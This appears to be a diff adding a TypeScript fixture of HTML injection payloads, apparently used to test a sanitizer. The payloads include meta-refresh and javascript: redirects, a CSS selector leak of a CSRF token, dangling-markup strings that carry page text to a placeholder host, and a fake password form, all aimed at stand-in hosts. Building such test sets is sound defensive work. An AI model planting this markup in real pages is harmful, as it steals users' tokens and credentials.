@@ -1,0 +1,53 @@
+import type { Family } from './payloads.ts';
+
+/** Elements that bring in a document, change this one, or send the reader's secrets away. */
+export const documents: Family = {
+  'meta-refresh': '<meta http-equiv="refresh" content="0;url=EVIL">',
+  'meta-refresh-javascript': '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
+  'meta-csp': '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
+  'meta-cookie': '<meta http-equiv="set-cookie" content="XSRF-TOKEN=evil">',
+  'meta-csrf': '<meta name="csrf-token" content="evil">',
+  'meta-referrer': '<meta name="referrer" content="unsafe-url">',
+  'base-href': '<base href="EXT/">',
+  'base-target': '<base target="_top">',
+  'link-stylesheet': '<link rel="stylesheet" href="EVIL.css">',
+  'link-import': '<link rel="import" href="EVIL.html">',
+  'link-preload': '<link rel="preload" as="script" href="EVIL.js">',
+  'link-module-preload': '<link rel="modulepreload" href="EVIL.js">',
+  'link-prefetch':
+    '<link rel="prefetch" href="EVIL"><link rel="dns-prefetch" href="//evil.example">',
+  'link-icon': '<link rel="icon" href="EVIL.ico"><link rel="manifest" href="EVIL.json">',
+  'style-import': '<style>@import url("EVIL.css");</style>',
+  'style-leak': '<style>input[name=_token][value^=a]{background:url(EVIL.png)}</style>',
+  'style-hides-page': '<style>body{display:none}</style>',
+  'style-in-head': '</head><head><style>@import "EVIL.css";</style></head>',
+  'iframe-source': '<iframe src="EVIL"></iframe>',
+  'iframe-javascript': '<iframe src="javascript:HIT"></iframe>',
+  'iframe-srcdoc': '<iframe srcdoc="<script>HIT</script>"></iframe>',
+  'iframe-srcdoc-entities': '<iframe srcdoc="&lt;script&gt;HIT&lt;/script&gt;"></iframe>',
+  'iframe-data': '<iframe src="data:text/html,<script>HIT</script>"></iframe>',
+  'iframe-unclosed': '<iframe src="EVIL" ',
+  'frame-source': '<frameset><frame src="EVIL"></frameset>',
+  fencedframe: '<fencedframe src="EVIL"></fencedframe><portal src="EVIL"></portal>',
+  'object-data': '<object data="EVIL" type="text/html"></object>',
+  'object-javascript': '<object data="javascript:HIT"></object>',
+  'object-param': '<object><param name="movie" value="EVIL.swf"><embed src="EVIL.swf"></object>',
+  'embed-source': '<embed src="EVIL">',
+  'embed-javascript': '<embed src="javascript:HIT" type="text/html">',
+  applet: '<applet code="EVIL.class" archive="EVIL.jar"></applet>',
+  'video-poster': '<video poster="EVIL.png" src="EVIL.mp4" autoplay></video>',
+  'video-track': '<video><track default src="EVIL.vtt"><source src="EVIL.mp4"></video>',
+  'form-password':
+    '<form action="EVIL" method="post"><input type="password" name="password" autofocus></form>',
+  'form-attribute':
+    '<button form="evil-form" formaction="EVIL" formmethod="post">Inloggen</button>',
+  'input-datalist':
+    '<input list="evil-list"><datalist id="evil-list"><option value="x"></datalist>',
+  'dangling-image': "<img src='/evil/dangling-image?",
+  'dangling-link': '<a href="EXT?<p>geheim',
+  'dangling-textarea': '<form action="EVIL"><textarea name="leak">',
+  'dangling-style': "<style>@import 'EVIL.css?",
+  html: '<html manifest="EVIL.appcache" onload="HIT"><head><title>pwned</title></head><body>x',
+  'body-attributes': '<body background="EVIL.png" class="evil" style="display:none">x',
+  title: '<title>pwned</title>',
+};
